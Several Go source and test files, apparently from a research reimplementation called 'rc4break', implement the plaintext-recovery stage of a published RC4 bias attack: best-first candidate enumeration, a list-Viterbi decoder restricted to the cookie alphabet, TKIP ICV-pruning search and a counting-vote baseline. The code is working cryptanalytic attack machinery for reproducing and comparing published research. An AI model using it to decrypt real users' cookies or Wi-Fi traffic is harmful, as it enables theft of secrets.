}

type candidateHeap []heapNode

func (h candidateHeap) Len() int            { return len(h) }
func (h candidateHeap) Less(i, j int) bool  { return h[i].score > h[j].score } // max-heap
func (h candidateHeap) Swap(i, j int)       { h[i], h[j] = h[j], h[i] }
func (h *candidateHeap) Push(x interface{}) { *h = append(*h, x.(heapNode)) }
func (h *candidateHeap) Pop() interface{} {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// NewSingleByteEnumerator builds an enumerator over len(likelihoods)
// plaintext byte positions.
func NewSingleByteEnumerator(likelihoods []*ByteLikelihoods) (*SingleByteEnumerator, error) {
	if len(likelihoods) == 0 {
		return nil, errors.New("recovery: no positions")
	}
	e := &SingleByteEnumerator{
		sortedVals:   make([][]byte, len(likelihoods)),
		sortedScores: make([][]float64, len(likelihoods)),
		seenGuard:    make(map[string]struct{}),
	}
	var first float64
	for r, l := range likelihoods {
		vals := make([]byte, 256)
		for v := range vals {
			vals[v] = byte(v)
		}
		sort.SliceStable(vals, func(a, b int) bool { return l[vals[a]] > l[vals[b]] })
		scores := make([]float64, 256)
		for rank, v := range vals {
			scores[rank] = l[v]
		}
		e.sortedVals[r] = vals
		e.sortedScores[r] = scores
		first += scores[0]
	}
	root := heapNode{score: first, ranks: make([]uint8, len(likelihoods))}
	heap.Push(&e.queue, root)
	e.seenGuard[string(root.ranks)] = struct{}{}
	return e, nil
}

// Next returns the next most likely candidate, or ok == false when the
// space (256^L candidates) is exhausted.
func (e *SingleByteEnumerator) Next() (Candidate, bool) {
	if e.queue.Len() == 0 {
		return Candidate{}, false
	}
	node := heap.Pop(&e.queue).(heapNode)
	// Children: bump the rank at each position. To avoid enumerating the
	// same rank vector twice we only bump positions at or after the last
	// non-zero rank (the standard lattice-enumeration de-duplication),
	// backed by a seen-set for safety at small depths.
	last := 0
	for r := len(node.ranks) - 1; r >= 0; r-- {
		if node.ranks[r] != 0 {
			last = r
			break
		}
	}
	for r := last; r < len(node.ranks); r++ {
		if int(node.ranks[r]) >= 255 {
			continue
		}
		child := heapNode{
			score: node.score - e.sortedScores[r][node.ranks[r]] + e.sortedScores[r][node.ranks[r]+1],
			ranks: append([]uint8(nil), node.ranks...),
		}
		child.ranks[r]++
		key := string(child.ranks)
		if _, dup := e.seenGuard[key]; dup {
			continue
		}
		e.seenGuard[key] = struct{}{}
		heap.Push(&e.queue, child)
	}
	pt := make([]byte, len(node.ranks))
	for r, rank := range node.ranks {
		pt[r] = e.sortedVals[r][rank]
	}
	return Candidate{Plaintext: pt, Score: node.score}, true
}

// SingleByteCandidates materializes the N most likely plaintexts — the
// paper's Algorithm 1 interface.
func SingleByteCandidates(likelihoods []*ByteLikelihoods, n int) ([]Candidate, error) {
	if n <= 0 {
		return nil, errors.New("recovery: need n > 0")
	}
	e, err := NewSingleByteEnumerator(likelihoods)
	if err != nil {
		return nil, err
	}
	out := make([]Candidate, 0, n)
	for len(out) < n {
		c, ok := e.Next()
		if !ok {
			break
		}
		out = append(out, c)
	}
	return out, nil
}

// SearchSingleByte walks the candidate list until accept returns true,
// returning that candidate and its 1-based position in the list. This is
// the §5.3 ICV-pruning loop. maxDepth bounds the walk (0 means unbounded).
func SearchSingleByte(likelihoods []*ByteLikelihoods, accept func([]byte) bool, maxDepth int) (Candidate, int, error) {
	e, err := NewSingleByteEnumerator(likelihoods)
	if err != nil {
		return Candidate{}, 0, err
	}
	for depth := 1; maxDepth == 0 || depth <= maxDepth; depth++ {
		c, ok := e.Next()
		if !ok {
			break
		}
		if accept(c.Plaintext) {
			return c, depth, nil
		}
	}
	return Candidate{}, 0, errors.New("recovery: no candidate accepted")
}

// DoubleByteCandidates implements the paper's Algorithm 2: a list-Viterbi
// (N-best) decode over double-byte likelihoods modeled as a first-order
// time-inhomogeneous HMM (§4.4). likelihoods[r] scores the plaintext pair
// at positions (r+1, r+2) in 1-indexed paper notation; the plaintext has
// len(likelihoods)+1 bytes of which the first and last are known (m1, mL).
// charset, when non-nil, restricts the interior bytes to the allowed set —
// the §6.2 RFC 6265 cookie-alphabet optimization.
func DoubleByteCandidates(likelihoods []*PairLikelihoods, m1, mL byte, n int, charset []byte) ([]Candidate, error) {
	if n <= 0 {
		return nil, errors.New("recovery: need n > 0")
	}
	L := len(likelihoods) + 1 // plaintext length including m1 and mL
	if L < 3 {
		return nil, errors.New("recovery: need at least one unknown byte between m1 and mL")
	}
	interior := charset
	if interior == nil {
		interior = make([]byte, 256)
		for i := range interior {
			interior[i] = byte(i)
		}
	}
	if len(interior) == 0 {
		return nil, errors.New("recovery: empty charset")
	}

	// lists[v] is the N-best list (descending) of prefixes ending in value v.
	lists := make(map[byte][]entry2, len(interior))
	// Position 2 (paper indexing): prefixes m1‖µ2.
	for _, v := range interior {
		lists[v] = []entry2{{score: likelihoods[0].At(m1, v)}}
	}
	backs := make([]map[byte][]entry2, L+1)
	backs[2] = lists

	// merge produces the N best entries ending in value v at position r
	// from all predecessor lists.
	for r := 3; r <= L; r++ {
		prev := backs[r-1]
		cur := make(map[byte][]entry2, len(interior))
		targets := interior
		if r == L {
			targets = []byte{mL}
		}
		for _, v := range targets {
			cur[v] = mergeNBest(prev, interior, likelihoods[r-2], v, n)
		}
		backs[r] = cur
	}

	final := backs[L][mL]
	out := make([]Candidate, len(final))
	for i, e := range final {
		pt := make([]byte, L)
		pt[L-1] = mL
		v, idx := e.prevV, e.prevI
		for r := L - 1; r >= 2; r-- {
			pt[r-1] = v
			ent := backs[r][v][idx]
			v, idx = ent.prevV, ent.prevI
		}
		pt[0] = m1
		out[i] = Candidate{Plaintext: pt, Score: e.score}
	}
	return out, nil
}

// mergeNBest selects the n best extensions ending in value v, drawing from
// the per-predecessor sorted lists with a heap (each predecessor list is
// already sorted, so the best unseen element per predecessor is a frontier).
func mergeNBest(prev map[byte][]entry2, interior []byte, lk *PairLikelihoods, v byte, n int) []entry2 {
	fh := make(frontierHeap, 0, len(interior))
	for _, pv := range interior {
		pl := prev[pv]
		if len(pl) == 0 {
			continue
		}
		fh = append(fh, frontier{score: pl[0].score + lk.At(pv, v), pv: pv, idx: 0})
	}
	heap.Init(&fh)
	out := make([]entry2, 0, n)
	for len(out) < n && fh.Len() > 0 {
		top := fh[0]
		out = append(out, entry2{score: top.score, prevV: top.pv, prevI: top.idx})
		pl := prev[top.pv]
		if int(top.idx)+1 < len(pl) {
			fh[0] = frontier{
				score: pl[top.idx+1].score + lk.At(top.pv, v),
				pv:    top.pv,
				idx:   top.idx + 1,
			}
			heap.Fix(&fh, 0)
		} else {
			heap.Pop(&fh)
		}
	}
	return out
}

// entry2 is one N-best list element: a prefix score plus the backpointer to
// the (value, rank) it extends.
type entry2 struct {
	score float64
	prevV byte
	prevI uint32
}

// frontier is the best unconsumed element of one predecessor list.
type frontier struct {
	score float64
	pv    byte
	idx   uint32
}

type frontierHeap []frontier

func (h frontierHeap) Len() int            { return len(h) }
func (h frontierHeap) Less(i, j int) bool  { return h[i].score > h[j].score }
func (h frontierHeap) Swap(i, j int)       { h[i], h[j] = h[j], h[i] }
func (h *frontierHeap) Push(x interface{}) { *h = append(*h, x.(frontier)) }
func (h *frontierHeap) Pop() interface{} {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// ScoreSequence computes the total log-likelihood of a full plaintext under
// the double-byte likelihood chain — a convenience for tests and for
// checking where the true plaintext ranks.
func ScoreSequence(likelihoods []*PairLikelihoods, pt []byte) float64 {
	if len(pt) != len(likelihoods)+1 {
		return math.Inf(-1)
	}
	var sum float64
	for r := 0; r < len(likelihoods); r++ {
		sum += likelihoods[r].At(pt[r], pt[r+1])
	}
	return sum
}
