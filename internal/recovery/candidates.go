package recovery

import (
	"container/heap"
	"errors"
	"math"
	"sort"

	"rc4break/internal/dataset"
)

// Candidate is one plaintext guess with its log-likelihood score.
type Candidate struct {
	Plaintext []byte
	Score     float64
}

// SingleByteEnumerator lazily yields plaintext candidates in decreasing
// likelihood from per-position single-byte log-likelihoods — the role of
// the paper's Algorithm 1. Where Algorithm 1 materializes the N best
// candidates length by length, this enumerator performs a best-first walk
// of the rank lattice, which yields exactly the same order but lets callers
// walk arbitrarily deep lists without choosing N up front. That is what the
// TKIP attack needs: it traverses candidates until one passes the ICV check
// (§5.3, Figures 8 and 9), and the stopping depth is not known in advance.
type SingleByteEnumerator struct {
	// sortedVals[r][rank] is the plaintext byte with the rank-th highest
	// likelihood at position r; sortedScores[r][rank] its log-likelihood.
	sortedVals   [][]byte
	sortedScores [][]float64
	queue        candidateHeap
	seenGuard    map[string]struct{}
}

type heapNode struct {
	score float64
	ranks []uint8 // rank per position into sortedVals
}

type candidateHeap []heapNode

func (h candidateHeap) Len() int            { return len(h) }
func (h candidateHeap) Less(i, j int) bool  { return h[i].score > h[j].score } // max-heap
func (h candidateHeap) Swap(i, j int)       { h[i], h[j] = h[j], h[i] }
func (h *candidateHeap) Push(x interface{}) { *h = append(*h, x.(heapNode)) }
func (h *candidateHeap) Pop() interface{} {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// NewSingleByteEnumerator builds an enumerator over len(likelihoods)
// plaintext byte positions.
func NewSingleByteEnumerator(likelihoods []*ByteLikelihoods) (*SingleByteEnumerator, error) {
	if len(likelihoods) == 0 {
		return nil, errors.New("recovery: no positions")
	}
	e := &SingleByteEnumerator{
		sortedVals:   make([][]byte, len(likelihoods)),
		sortedScores: make([][]float64, len(likelihoods)),
		seenGuard:    make(map[string]struct{}),
	}
	var first float64
	for r, l := range likelihoods {
		vals := make([]byte, 256)
		for v := range vals {
			vals[v] = byte(v)
		}
		sort.SliceStable(vals, func(a, b int) bool { return l[vals[a]] > l[vals[b]] })
		scores := make([]float64, 256)
		for rank, v := range vals {
			scores[rank] = l[v]
		}
		e.sortedVals[r] = vals
		e.sortedScores[r] = scores
		first += scores[0]
	}
	root := heapNode{score: first, ranks: make([]uint8, len(likelihoods))}
	heap.Push(&e.queue, root)
	e.seenGuard[string(root.ranks)] = struct{}{}
	return e, nil
}

// Next returns the next most likely candidate, or ok == false when the
// space (256^L candidates) is exhausted.
func (e *SingleByteEnumerator) Next() (Candidate, bool) {
	if e.queue.Len() == 0 {
		return Candidate{}, false
	}
	node := heap.Pop(&e.queue).(heapNode)
	// Children: bump the rank at each position. To avoid enumerating the
	// same rank vector twice we only bump positions at or after the last
	// non-zero rank (the standard lattice-enumeration de-duplication),
	// backed by a seen-set for safety at small depths.
	last := 0
	for r := len(node.ranks) - 1; r >= 0; r-- {
		if node.ranks[r] != 0 {
			last = r
			break
		}
	}
	for r := last; r < len(node.ranks); r++ {
		if int(node.ranks[r]) >= 255 {
			continue
		}
		child := heapNode{
			score: node.score - e.sortedScores[r][node.ranks[r]] + e.sortedScores[r][node.ranks[r]+1],
			ranks: append([]uint8(nil), node.ranks...),
		}
		child.ranks[r]++
		key := string(child.ranks)
		if _, dup := e.seenGuard[key]; dup {
			continue
		}
		e.seenGuard[key] = struct{}{}
		heap.Push(&e.queue, child)
	}
	pt := make([]byte, len(node.ranks))
	for r, rank := range node.ranks {
		pt[r] = e.sortedVals[r][rank]
	}
	return Candidate{Plaintext: pt, Score: node.score}, true
}

// SingleByteCandidates materializes the N most likely plaintexts — the
// paper's Algorithm 1 interface.
func SingleByteCandidates(likelihoods []*ByteLikelihoods, n int) ([]Candidate, error) {
	if n <= 0 {
		return nil, errors.New("recovery: need n > 0")
	}
	e, err := NewSingleByteEnumerator(likelihoods)
	if err != nil {
		return nil, err
	}
	out := make([]Candidate, 0, n)
	for len(out) < n {
		c, ok := e.Next()
		if !ok {
			break
		}
		out = append(out, c)
	}
	return out, nil
}

// SearchSingleByte walks the candidate list until accept returns true,
// returning that candidate and its 1-based position in the list. This is
// the §5.3 ICV-pruning loop. maxDepth bounds the walk (0 means unbounded).
func SearchSingleByte(likelihoods []*ByteLikelihoods, accept func([]byte) bool, maxDepth int) (Candidate, int, error) {
	e, err := NewSingleByteEnumerator(likelihoods)
	if err != nil {
		return Candidate{}, 0, err
	}
	for depth := 1; maxDepth == 0 || depth <= maxDepth; depth++ {
		c, ok := e.Next()
		if !ok {
			break
		}
		if accept(c.Plaintext) {
			return c, depth, nil
		}
	}
	return Candidate{}, 0, errors.New("recovery: no candidate accepted")
}

// CandidateSource yields plaintext candidates in decreasing likelihood —
// the decode-side currency of the online attack runtime. The lazy
// SingleByteEnumerator implements it directly (the TKIP search walks it
// until the ICV oracle accepts, without materializing the tail);
// materialized list-Viterbi output is adapted with SliceSource.
type CandidateSource interface {
	Next() (Candidate, bool)
}

type sliceSource struct{ cands []Candidate }

func (s *sliceSource) Next() (Candidate, bool) {
	if len(s.cands) == 0 {
		return Candidate{}, false
	}
	c := s.cands[0]
	s.cands = s.cands[1:]
	return c, true
}

// SliceSource adapts a materialized candidate list to CandidateSource.
func SliceSource(cands []Candidate) CandidateSource { return &sliceSource{cands: cands} }

// identityCharset is the full 256-value interior used when no charset
// restriction applies.
var identityCharset = func() (cs [256]byte) {
	for i := range cs {
		cs[i] = byte(i)
	}
	return
}()

// pairLevel holds the N-best prefix lists of one chain position, indexed by
// the position's plaintext byte value; values outside the active charset
// keep empty lists.
type pairLevel [256][]entry2

func (lv *pairLevel) reset() {
	for v := range lv {
		lv[v] = lv[v][:0]
	}
}

// PairDecoder runs Algorithm 2 decodes repeatedly, reusing its N-best
// tables between calls and fanning the per-value merges of each chain
// position over a worker pool. The online attack runtime decodes at every
// cadence point, and one decode materializes up to n backpointer entries
// for each of 256 values per position — far too much to reallocate per
// round; a decoder amortizes the tables across the whole run. Results are
// bitwise identical for any Workers value (each target value's merge only
// reads the previous level and writes its own list) and identical to a
// fresh decoder's: reused capacity never changes merge order.
type PairDecoder struct {
	// Workers bounds the per-level merge parallelism; 0 means GOMAXPROCS.
	Workers int
	// levels[r-2] holds the N-best lists of chain position r (paper
	// indexing: 2..L); grown lazily to the longest chain decoded.
	levels []*pairLevel
	// fhs[v] is the merge frontier heap reused by target value v. Within a
	// level each target merges exactly once, so per-value scratch is
	// race-free under the worker pool.
	fhs [256]frontierHeap
}

// Decode implements the paper's Algorithm 2: a list-Viterbi (N-best) decode
// over double-byte likelihoods modeled as a first-order time-inhomogeneous
// HMM (§4.4). likelihoods[r] scores the plaintext pair at positions
// (r+1, r+2) in 1-indexed paper notation; the plaintext has
// len(likelihoods)+1 bytes of which the first and last are known (m1, mL).
// charset, when non-nil, restricts the interior bytes to the allowed set —
// the §6.2 RFC 6265 cookie-alphabet optimization.
func (d *PairDecoder) Decode(likelihoods []*PairLikelihoods, m1, mL byte, n int, charset []byte) ([]Candidate, error) {
	if n <= 0 {
		return nil, errors.New("recovery: need n > 0")
	}
	L := len(likelihoods) + 1 // plaintext length including m1 and mL
	if L < 3 {
		return nil, errors.New("recovery: need at least one unknown byte between m1 and mL")
	}
	interior := charset
	if interior == nil {
		interior = identityCharset[:]
	}
	if len(interior) == 0 {
		return nil, errors.New("recovery: empty charset")
	}
	// Deduplicate the charset (first occurrence wins): the per-level merge
	// fans targets over workers with per-value output lists and scratch, so
	// a duplicated value would be merged concurrently by two goroutines.
	var seen [256]bool
	dedup := interior[:0:0]
	for _, v := range interior {
		if !seen[v] {
			seen[v] = true
			dedup = append(dedup, v)
		}
	}
	interior = dedup
	for len(d.levels) < L-1 {
		d.levels = append(d.levels, new(pairLevel))
	}

	// Position 2 (paper indexing): prefixes m1‖µ2.
	first := d.levels[0]
	first.reset()
	for _, v := range interior {
		first[v] = append(first[v], entry2{score: likelihoods[0].At(m1, v)})
	}

	// Each level merges the N best entries ending in each target value from
	// all predecessor lists. Targets are independent — they share the
	// (read-only) previous level and write disjoint lists — so the merge
	// loop fans out over the worker pool without changing any output bit.
	for r := 3; r <= L; r++ {
		prev, cur := d.levels[r-3], d.levels[r-2]
		cur.reset()
		targets := interior
		if r == L {
			targets = []byte{mL}
		}
		lk := likelihoods[r-2]
		err := dataset.ForShards(d.Workers, len(targets), func(ti int) error {
			v := targets[ti]
			cur[v] = mergeNBest(cur[v], &d.fhs[v], prev, interior, lk, v, n)
			return nil
		})
		if err != nil {
			return nil, err
		}
	}

	final := d.levels[L-2][mL]
	out := make([]Candidate, len(final))
	for i, e := range final {
		pt := make([]byte, L)
		pt[L-1] = mL
		v, idx := e.prevV, e.prevI
		for r := L - 1; r >= 2; r-- {
			pt[r-1] = v
			ent := d.levels[r-2][v][idx]
			v, idx = ent.prevV, ent.prevI
		}
		pt[0] = m1
		out[i] = Candidate{Plaintext: pt, Score: e.score}
	}
	return out, nil
}

// DoubleByteCandidates is the one-shot form of PairDecoder.Decode, kept for
// callers that decode once per evidence pool. Repeated decoders (the online
// runtime) hold a PairDecoder instead, which reuses the N-best tables.
func DoubleByteCandidates(likelihoods []*PairLikelihoods, m1, mL byte, n int, charset []byte) ([]Candidate, error) {
	return new(PairDecoder).Decode(likelihoods, m1, mL, n, charset)
}

// mergeNBest appends the n best extensions ending in value v to dst
// (len(dst) == 0 on entry; its capacity is reused), drawing from the
// per-predecessor sorted lists with a heap (each predecessor list is
// already sorted, so the best unseen element per predecessor is a frontier).
// fhp is caller-owned heap scratch, reset here and handed back with its
// capacity for the next merge.
func mergeNBest(dst []entry2, fhp *frontierHeap, prev *pairLevel, interior []byte, lk *PairLikelihoods, v byte, n int) []entry2 {
	fh := (*fhp)[:0]
	for _, pv := range interior {
		pl := prev[pv]
		if len(pl) == 0 {
			continue
		}
		fh = append(fh, frontier{score: pl[0].score + lk.At(pv, v), pv: pv, idx: 0})
	}
	heap.Init(&fh)
	for len(dst) < n && fh.Len() > 0 {
		top := fh[0]
		dst = append(dst, entry2{score: top.score, prevV: top.pv, prevI: top.idx})
		pl := prev[top.pv]
		if int(top.idx)+1 < len(pl) {
			fh[0] = frontier{
				score: pl[top.idx+1].score + lk.At(top.pv, v),
				pv:    top.pv,
				idx:   top.idx + 1,
			}
			heap.Fix(&fh, 0)
		} else {
			// Inline heap.Pop without the interface boxing (the popped
			// frontier is discarded): same comparisons, same heap order.
			last := len(fh) - 1
			fh[0] = fh[last]
			fh = fh[:last]
			if last > 1 {
				heap.Fix(&fh, 0)
			}
		}
	}
	*fhp = fh
	return dst
}

// entry2 is one N-best list element: a prefix score plus the backpointer to
// the (value, rank) it extends.
type entry2 struct {
	score float64
	prevV byte
	prevI uint32
}

// frontier is the best unconsumed element of one predecessor list.
type frontier struct {
	score float64
	pv    byte
	idx   uint32
}

type frontierHeap []frontier

func (h frontierHeap) Len() int            { return len(h) }
func (h frontierHeap) Less(i, j int) bool  { return h[i].score > h[j].score }
func (h frontierHeap) Swap(i, j int)       { h[i], h[j] = h[j], h[i] }
func (h *frontierHeap) Push(x interface{}) { *h = append(*h, x.(frontier)) }
func (h *frontierHeap) Pop() interface{} {
	old := *h
	n := len(old)
	x := old[n-1]
	*h = old[:n-1]
	return x
}

// ScoreSequence computes the total log-likelihood of a full plaintext under
// the double-byte likelihood chain — a convenience for tests and for
// checking where the true plaintext ranks.
func ScoreSequence(likelihoods []*PairLikelihoods, pt []byte) float64 {
	if len(pt) != len(likelihoods)+1 {
		return math.Inf(-1)
	}
	var sum float64
	for r := 0; r < len(likelihoods); r++ {
		sum += likelihoods[r].At(pt[r], pt[r+1])
	}
	return sum
}
