package recovery

import (
	"errors"

	"rc4break/internal/biases"
)

// This file implements the counting-style recovery that Isobe et al. used
// with Mantin's ABSAB bias (§7: "they used a counting technique instead of
// Bayesian likelihoods"). It is the baseline the paper's Bayesian method
// improves on, kept here so the two can be compared head to head (see the
// §7 ablation bench). The counting estimator picks, per candidate pair, the
// raw number of ciphertext differentials that vote for it — ignoring both
// the per-gap bias strength α(g) and the FM evidence.

// CountingVotes accumulates unweighted votes for candidate plaintext pairs
// from ABSAB differentials.
type CountingVotes struct {
	votes [65536]uint32
	n     uint64
}

// AddDifferential registers one observed ciphertext differential (d1, d2)
// against the known plaintext pair (k1, k2) at the far end of the gap: the
// candidate it votes for is (d1 ⊕ k1, d2 ⊕ k2). The gap is deliberately
// ignored — that is the defining simplification of the counting approach.
func (c *CountingVotes) AddDifferential(d1, d2, k1, k2 byte) {
	c.votes[int(d1^k1)*256+int(d2^k2)]++
	c.n++
}

// AddHistogram folds a whole per-gap differential histogram at once.
func (c *CountingVotes) AddHistogram(hist []uint64, k1, k2 byte) error {
	if len(hist) != 65536 {
		return errors.New("recovery: histogram must have 65536 entries")
	}
	for d1 := 0; d1 < 256; d1++ {
		row := hist[d1*256 : d1*256+256]
		vrow := c.votes[(d1^int(k1))*256 : (d1^int(k1))*256+256]
		for d2, cnt := range row {
			if cnt != 0 {
				vrow[d2^int(k2)] += uint32(cnt)
				c.n += cnt
			}
		}
	}
	return nil
}

// Best returns the candidate pair with the most votes.
func (c *CountingVotes) Best() (mu1, mu2 byte) {
	var bi int
	var best uint32
	for i, v := range c.votes {
		if v > best {
			best = v
			bi = i
		}
	}
	return byte(bi >> 8), byte(bi & 0xff)
}

// Votes returns the vote count for a candidate pair.
func (c *CountingVotes) Votes(mu1, mu2 byte) uint32 {
	return c.votes[int(mu1)*256+int(mu2)]
}

// Total returns the number of differentials counted.
func (c *CountingVotes) Total() uint64 { return c.n }

// BayesianFromVotesWouldDiffer reports whether weighting the same evidence
// by ABSABWeight would rank candidates differently from raw counting for
// the two given candidates, given per-gap vote splits. It exists to make
// the difference between the approaches inspectable in tests: counting is
// a special case of the Bayesian estimator with all gap weights equal.
func BayesianFromVotesWouldDiffer(votesA, votesB []uint64, gaps []int) (bool, error) {
	if len(votesA) != len(gaps) || len(votesB) != len(gaps) {
		return false, errors.New("recovery: votes/gaps length mismatch")
	}
	var cntA, cntB uint64
	var bayA, bayB float64
	for i, g := range gaps {
		if g < 0 || g > 4*biases.MaxUsefulGap {
			return false, errors.New("recovery: implausible gap")
		}
		w := ABSABWeight(g)
		cntA += votesA[i]
		cntB += votesB[i]
		bayA += float64(votesA[i]) * w
		bayB += float64(votesB[i]) * w
	}
	countingPrefersA := cntA > cntB
	bayesPrefersA := bayA > bayB
	return countingPrefersA != bayesPrefersA, nil
}
