package recovery

import (
	"math/rand"
	"testing"
)

func TestCountingVotesRecoversStrongSignal(t *testing.T) {
	// With a strong coincidence rate, raw counting finds the pair too.
	const truth1, truth2 = 'h', 'i'
	const known1, known2 = 'K', 'L'
	rng := rand.New(rand.NewSource(10))
	var cv CountingVotes
	const n = 1 << 18
	for i := 0; i < n; i++ {
		var d1, d2 byte
		if rng.Float64() < 0.01 {
			d1, d2 = truth1^known1, truth2^known2 // coincidence: Ĉ = P̂
		} else {
			v := rng.Intn(65536)
			d1, d2 = byte(v>>8), byte(v)
		}
		cv.AddDifferential(d1, d2, known1, known2)
	}
	m1, m2 := cv.Best()
	if m1 != truth1 || m2 != truth2 {
		t.Errorf("counting recovered (%q,%q)", m1, m2)
	}
	if cv.Total() != n {
		t.Errorf("total %d", cv.Total())
	}
	if cv.Votes(truth1, truth2) <= n/65536 {
		t.Error("true pair did not accumulate excess votes")
	}
}

func TestAddHistogramMatchesAddDifferential(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	hist := make([]uint64, 65536)
	var a, b CountingVotes
	const k1, k2 = 0x5a, 0xa5
	for i := 0; i < 5000; i++ {
		v := rng.Intn(65536)
		d1, d2 := byte(v>>8), byte(v)
		hist[int(d1)*256+int(d2)]++
		a.AddDifferential(d1, d2, k1, k2)
	}
	if err := b.AddHistogram(hist, k1, k2); err != nil {
		t.Fatal(err)
	}
	if a.n != b.n {
		t.Fatalf("totals differ: %d vs %d", a.n, b.n)
	}
	for i := range a.votes {
		if a.votes[i] != b.votes[i] {
			t.Fatalf("vote cell %d differs", i)
		}
	}
	if err := b.AddHistogram(make([]uint64, 3), 0, 0); err == nil {
		t.Error("short histogram accepted")
	}
}

func TestCountingVsBayesianDisagreement(t *testing.T) {
	// The defining weakness of counting (§7): a vote through a long gap
	// counts as much as one through a short gap, although the short gap's
	// bias is stronger. Construct per-gap splits where candidate A gets
	// slightly more raw votes but mostly through long gaps, while B's
	// votes come through short gaps: the Bayesian weighting flips the
	// ranking.
	gaps := []int{0, 128}
	votesA := []uint64{100, 210} // 310 total, mostly long-gap
	votesB := []uint64{205, 100} // 305 total, mostly short-gap
	differ, err := BayesianFromVotesWouldDiffer(votesA, votesB, gaps)
	if err != nil {
		t.Fatal(err)
	}
	if !differ {
		t.Error("expected counting and Bayesian rankings to disagree")
	}
	// Same split through the same gap: no disagreement possible.
	same, err := BayesianFromVotesWouldDiffer([]uint64{10, 10}, []uint64{5, 5}, gaps)
	if err != nil {
		t.Fatal(err)
	}
	if same {
		t.Error("uniformly larger votes must win under both rankings")
	}
	if _, err := BayesianFromVotesWouldDiffer([]uint64{1}, []uint64{1, 2}, gaps); err == nil {
		t.Error("length mismatch accepted")
	}
	if _, err := BayesianFromVotesWouldDiffer([]uint64{1}, []uint64{1}, []int{-1}); err == nil {
		t.Error("negative gap accepted")
	}
}
