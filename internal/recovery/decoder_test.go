package recovery

import (
	"bytes"
	"math/rand"
	"testing"
)

// randomChain builds a random pair-likelihood chain of the given length.
func randomChain(rng *rand.Rand, links int) []*PairLikelihoods {
	lks := make([]*PairLikelihoods, links)
	for i := range lks {
		lks[i] = new(PairLikelihoods)
		for j := range lks[i] {
			lks[i][j] = rng.NormFloat64()
		}
	}
	return lks
}

// TestPairDecoderWorkerInvarianceAndReuse pins the PairDecoder contract the
// online runtime depends on: output is bitwise identical for any worker
// count, identical to the one-shot DoubleByteCandidates path, and identical
// across repeated Decode calls on one decoder (table reuse never changes
// merge order), including calls with different depths and charsets in
// between.
func TestPairDecoderWorkerInvarianceAndReuse(t *testing.T) {
	rng := rand.New(rand.NewSource(321))
	charset := []byte("abcdefghij0123456789")
	lks := randomChain(rng, 6)
	m1, mL := charset[3], charset[7]
	const n = 200

	ref, err := DoubleByteCandidates(lks, m1, mL, n, charset)
	if err != nil {
		t.Fatal(err)
	}

	same := func(label string, got []Candidate) {
		t.Helper()
		if len(got) != len(ref) {
			t.Fatalf("%s: %d candidates, want %d", label, len(got), len(ref))
		}
		for i := range got {
			if !bytes.Equal(got[i].Plaintext, ref[i].Plaintext) || got[i].Score != ref[i].Score {
				t.Fatalf("%s: candidate %d differs (%q %v vs %q %v)", label, i,
					got[i].Plaintext, got[i].Score, ref[i].Plaintext, ref[i].Score)
			}
		}
	}

	for _, workers := range []int{1, 2, 5, 16} {
		d := &PairDecoder{Workers: workers}
		got, err := d.Decode(lks, m1, mL, n, charset)
		if err != nil {
			t.Fatal(err)
		}
		same("fresh decoder", got)

		// Interleave decodes with other shapes, then repeat the original:
		// reused capacity must not leak between calls.
		if _, err := d.Decode(lks[:3], 'a', 'b', 17, []byte("abcxyz")); err != nil {
			t.Fatal(err)
		}
		if _, err := d.Decode(lks, m1, mL, 31, nil); err != nil {
			t.Fatal(err)
		}
		got, err = d.Decode(lks, m1, mL, n, charset)
		if err != nil {
			t.Fatal(err)
		}
		same("reused decoder", got)
	}
}

// TestSliceSource checks the CandidateSource adapter drains in order.
func TestSliceSource(t *testing.T) {
	cands := []Candidate{
		{Plaintext: []byte("a"), Score: 3},
		{Plaintext: []byte("b"), Score: 1},
	}
	src := SliceSource(cands)
	for i := 0; i < len(cands); i++ {
		c, ok := src.Next()
		if !ok || !bytes.Equal(c.Plaintext, cands[i].Plaintext) {
			t.Fatalf("candidate %d: got %q ok=%v", i, c.Plaintext, ok)
		}
	}
	if _, ok := src.Next(); ok {
		t.Fatal("source did not report exhaustion")
	}
}

// TestSingleByteLikelihoodsFromLogMatches pins the four-lane kernel
// bitwise against a naive scalar reference (the historical
// SingleByteLikelihoods loop, reproduced here verbatim), including sparse
// count rows whose zero cells the reference skips entirely.
func TestSingleByteLikelihoodsFromLogMatches(t *testing.T) {
	rng := rand.New(rand.NewSource(99))
	for trial := 0; trial < 8; trial++ {
		var counts [256]uint64
		dist := make([]float64, 256)
		var total float64
		for v := range dist {
			dist[v] = rng.Float64() + 0.01
			total += dist[v]
		}
		for v := range dist {
			dist[v] /= total
		}
		for v := range counts {
			if trial%2 == 0 || rng.Intn(4) == 0 { // odd trials: sparse rows
				counts[v] = uint64(rng.Intn(1000))
			}
		}
		logp, err := LogDistribution(dist)
		if err != nil {
			t.Fatal(err)
		}
		var want ByteLikelihoods
		for mu := 0; mu < 256; mu++ {
			var sum float64
			for c := 0; c < 256; c++ {
				if n := counts[c]; n != 0 {
					sum += float64(n) * logp[c^mu]
				}
			}
			want[mu] = sum
		}
		got := new(ByteLikelihoods)
		SingleByteLikelihoodsFromLog(got, counts[:], logp)
		if *got != want {
			t.Fatalf("trial %d: four-lane kernel differs from scalar reference", trial)
		}
		viaAPI, err := SingleByteLikelihoods(&counts, dist)
		if err != nil {
			t.Fatal(err)
		}
		if *viaAPI != want {
			t.Fatalf("trial %d: SingleByteLikelihoods differs from scalar reference", trial)
		}
	}
}

// TestPairLikelihoodsSparseIntoOverwrites confirms Into overwrites stale
// table contents rather than accumulating into them.
func TestPairLikelihoodsSparseIntoOverwrites(t *testing.T) {
	rng := rand.New(rand.NewSource(12))
	hist := make([]uint64, 65536)
	for i := range hist {
		hist[i] = uint64(rng.Intn(50))
	}
	cells := []BiasedCell{{K1: 3, K2: 7, P: 2.0 / 65536}}
	want, err := PairLikelihoodsSparse(hist, cells, 1.0/65536)
	if err != nil {
		t.Fatal(err)
	}
	got := new(PairLikelihoods)
	for i := range got {
		got[i] = 1e9 // stale garbage that must be overwritten
	}
	if err := PairLikelihoodsSparseInto(got, hist, cells, 1.0/65536); err != nil {
		t.Fatal(err)
	}
	if *got != *want {
		t.Fatal("Into path differs from allocating path")
	}
}
