package biases

import "math/rand"

// Sampler draws values from an arbitrary discrete distribution using the
